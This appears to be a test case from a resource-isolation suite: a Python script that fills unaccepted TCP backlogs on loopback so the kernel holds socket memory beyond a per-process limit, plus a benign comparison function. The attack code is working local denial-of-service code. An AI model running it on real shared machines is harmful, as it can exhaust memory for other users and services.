"""Fill TCP connections that nobody has accepted.

Technique: what a listener's backlog holds is made by the network's softirq, which belongs to no process: neither the
    sockets nor what arrives for them is charged to anybody before accept(2). The client sends all that fits and
    closes, so no descriptor is needed either. net.ipv4.tcp_mem, the only bound, is the whole machine's.
Success: the listeners hold four times the memory limit.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
Not promised: The kernel charges a connection when it is accepted. The machine's own bound on memory for TCP stays (net.ipv4.tcp_mem).
"""
import socket

LIMIT = parameters.get("memory_bytes_max", 128 << 20)


def backlog_max():
    try:
        with open("/proc/sys/net/core/somaxconn") as file:
            return min(4096, int(file.read()))
    except OSError:
        return 128


def listener():
    server = socket.socket()
    # The buffer is inherited by what the listener makes.
    server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    server.bind(("127.0.0.1", 0))
    server.listen(4096)
    return server


def fill(address):
    """A connection with as much in it as it takes. Gives the number of bytes."""
    client = socket.socket()
    client.settimeout(0.5)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 16384)
    client.connect(address)
    client.setblocking(False)
    sent = 0
    chunk = bytes(1 << 16)
    try:
        while True:
            sent += client.send(chunk)
    except BlockingIOError:
        pass
    client.close()
    return sent


def attack():
    held, count, servers, of_each = 0, 0, [], backlog_max() - 8
    while held < 4 * LIMIT and len(servers) < 900:
        if count % of_each == 0:
            servers.append(listener())
        held += fill(servers[-1].getsockname())
        count += 1
    left = len(servers[0].accept()[0].recv(1 << 16))
    memory = [line for line in open("/proc/net/sockstat") if line.startswith("TCP:")][0].split()[-1]
    seen = f"the first still has {left} bytes; all TCP of the machine: {int(memory) >> 8} MB"
    return f"{count} unaccepted connections took {held >> 20} MB ({seen})"


def twin():
    """A server that is slow to accept, with a client that has sent and gone."""
    server = socket.create_server(("127.0.0.1", 0), backlog=128)
    for number in range(100):
        with socket.create_connection(server.getsockname()) as client:
            client.sendall(b"%d" % number)
    for number in range(100):
        connection, _ = server.accept()
        with connection:
            assert connection.recv(100) == b"%d" % number
